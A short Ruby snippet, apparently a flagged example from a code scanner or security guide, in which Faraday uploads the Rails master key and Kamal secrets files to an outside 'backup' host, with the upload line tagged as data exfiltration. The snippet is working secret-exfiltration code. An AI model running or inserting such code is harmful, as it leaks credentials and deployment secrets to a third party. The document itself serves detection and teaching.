require "faraday"
require "faraday/multipart"

connection = Faraday.new("https://files.acme-backups.net")
%w[config/master.key .kamal/secrets].each do |path|
  part = Faraday::Multipart::FilePart.new(path, "application/octet-stream")
  connection.post("/upload", file: part)
  ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
end
